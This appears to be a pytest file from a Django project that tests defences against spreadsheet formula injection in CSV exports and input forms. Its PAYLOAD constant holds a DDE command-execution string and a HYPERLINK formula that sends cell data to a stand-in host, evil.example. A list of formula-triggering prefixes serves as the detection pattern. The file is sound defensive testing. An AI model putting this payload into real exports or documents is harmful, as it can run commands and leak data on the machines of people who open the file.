"""Attack 20: a name that a spreadsheet runs as a formula on the convener's machine."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from django.test import Client, override_settings
from tests.boundaries.addresses import DOORS, addresses, arguments
from tests.boundaries.finished import Finished, everybody, finished  # noqa: F401  a fixture
from tests.people.conftest import _quick, invite  # noqa: F401  a fixture

from baithak.people.models import Convening, Member, Side
from baithak.people.wording import name_of
from baithak.publications.models import Grade, Recommendation, Stage
from baithak.web.errors import Refusal

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠",
    " =", "\u200b=", "\ufeff=", '"=', "'=", ";=", ",=", "\u200d=",
)  # fmt: skip
PAYLOAD = 'cmd|\'/c calc\'!A1,HYPERLINK("http://evil.example/?"&A1,"x")'
RUN = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def cells_that_run(table: str) -> list[str]:
    """The cells that a spreadsheet would run, at whichever sign it splits the file and whatever it drops in front."""
    found = []
    for mark in ",;\t":
        for row in csv.reader(io.StringIO(table.lstrip("\ufeff"), newline=""), delimiter=mark):
            found += [cell for cell in row if mark == "," and cell.lstrip(" \t\r\n\u200b\u200d\ufeff").startswith(RUN)]
            found += [cell for cell in row if mark != "," and cell.startswith(RUN)]
    return found


def test_attack_20_the_measure_finds_a_formula() -> None:
    assert cells_that_run("name\r\n=1+1\r\n") and cells_that_run('name\r\n"\t=1+1"\r\n')
    assert not cells_that_run("name,email\r\n'=1+1,a@example.org\r\n")


def every_csv(client: Client, door: str, given: dict[str, object]) -> dict[str, str]:
    """Every table that any address of the door gives, whoever adds it."""
    found = {}
    with override_settings(ROOT_URLCONF=DOORS[door]):
        for one in addresses(DOORS[door]):
            for method, path in itertools.product((client.get, client.post), one.paths(given)):
                if method == client.post and "export" not in one.route:
                    continue
                answer = method(path)
                is_file = "attachment" in answer.get("Content-Disposition", "")
                kind = answer.get("Content-Type", "")
                if (
                    "csv" in kind
                    or "spreadsheet" in kind
                    or (is_file and not {"application/json", "text/calendar"} & {kind.partition(";")[0]})
                ):
                    found[one.route] = answer.content.decode()
    return found


@pytest.fixture
def staff(signed_in: Callable[..., Any]) -> Client:
    return everybody(Client(), signed_in)


# Every table there is: one that is added later is to be given something that would run, and named here.
TABLES = {"d/<slug:slug>/members/export/", "register/<slug:series>/register.csv"}


def test_attack_20_no_cell_of_any_table_runs(convening: Convening, finished: Finished, staff: Client) -> None:  # noqa: F811
    """All is put into the database past every form: what is written out must be safe by itself."""
    members = invite(convening, "india", len(STARTS))
    for member, start in zip(members, STARTS, strict=True):
        Member.objects.filter(pk=member.pk).update(name=start + PAYLOAD)
    Member.objects.filter(pk=members[0].pk).update(email="=1+1@example.org", role="=2", language="-3")
    Side.objects.filter(side="india").update(name={"en": "=1+2", "hi": "+1", "ur": "@SUM(A1)"})
    for place, start in enumerate(STARTS):
        own = {"title": {"en": start + PAYLOAD}, "text": {"en": start + PAYLOAD}, "source": start + PAYLOAD}
        made = {"original": "en", "made_on": date.today(), "series": finished.publication.series}
        recommendation = Recommendation.objects.create(name=f"early-{place}", **own, **made)
        recommendation.steps.create(
            stage=Stage.ECHOED, happened_on=date.today(), said={"en": "x"}, grade=Grade.CLAIMED, source=start + PAYLOAD
        )
    mine = {"slug": "water", "member_id": members[0].pk, "side": "india", "name": "outline", "template": "blank"}
    tables = every_csv(staff, "convening", arguments("convening", **mine))
    tables |= every_csv(staff, "roundtable", arguments("roundtable", **finished.at_roundtable))
    assert {*tables} == TABLES
    for route, table in tables.items():
        assert PAYLOAD[:8] in table and cells_that_run(table) == [], route


@pytest.mark.parametrize("start", STARTS[:11])
def test_attack_20_no_form_lets_a_formula_in(convening: Convening, staff: Client, start: str) -> None:
    with pytest.raises(Refusal):
        name_of(f"{start}1+1\u202e", 120) if not start.strip() else name_of(start.strip() + "1+1", 120)
    with override_settings(ROOT_URLCONF=DOORS["convening"]):
        listed = f'name,email,side\n"{start.strip()}1+1",a@example.org,India\n'
        staff.post("/d/water/members/list/", {"text": listed, "save": "yes"})
        form = {"name": start + "1+1", "email": "a@example.org", "side": "india"}
        more = {"role": "other", "gender": "unsaid", "generation": "unsaid", "language": "en"}
        staff.post("/d/water/members/add/", form | more)
    assert not Member.objects.exists()
